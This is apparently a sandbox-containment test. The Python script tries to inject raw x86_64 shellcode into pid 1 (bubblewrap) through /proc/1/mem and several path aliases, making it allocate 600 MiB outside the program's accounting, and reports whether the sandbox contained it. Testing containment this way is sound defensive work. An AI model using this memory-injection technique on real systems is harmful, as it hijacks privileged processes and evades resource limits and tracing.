# Attack: 9, a home in pid 1
# Source: found here
# Tries: to write code into pid 1, which is bubblewrap's, through /proc/1/mem, and to have it take 600 MiB that nobody counts as the program's. What a server did there would not stand in its trace either.
# Meets: a /proc/1 that is covered: nothing of pid 1 can be opened.
# Expect: contained
# Limits: wall_ns=2500000000
# Needs: x86_64
import os
import signal
import struct
import time

from attack import contained, escaped, read

SIZE = 600 << 20
# mmap(0, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0), then pause().
CODE = (
    b"\x31\xff\x48\xbe" + struct.pack("<Q", SIZE) + b"\xba\x03\0\0\0\x41\xba\x22\x80\0\0"
    b"\x49\xc7\xc0\xff\xff\xff\xff\x45\x31\xc9\xb8\x09\0\0\0\x0f\x05"
    b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
)


def write_into(path):
    """Put the code where pid 1 goes on once its wait() is over."""
    where = int(read("/proc/1/syscall").split()[-1], 16)
    memory = os.open(path, os.O_RDWR)
    os.pwrite(memory, CODE, where)


def end_an_orphan():
    """Have a child of pid 1 end, so that its wait() is over."""
    child = os.fork()
    if not child:
        if os.fork():
            os._exit(0)
        os._exit(0)
    os.waitpid(child, 0)


for path in ("/proc/1/mem", "/proc/1/task/1/mem", "/proc/self/root" + "/proc/1/mem", "/proc/self/../1/mem"):
    try:
        write_into(path)
    except (OSError, IndexError):
        continue
    end_an_orphan()
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        if int(read("/proc/1/statm").split()[1]) * 4096 > SIZE // 2:
            escaped(f"pid 1 has taken {SIZE >> 20} MiB for the program")
        time.sleep(0.01)
    escaped(f"{path} could be written to")
contained()
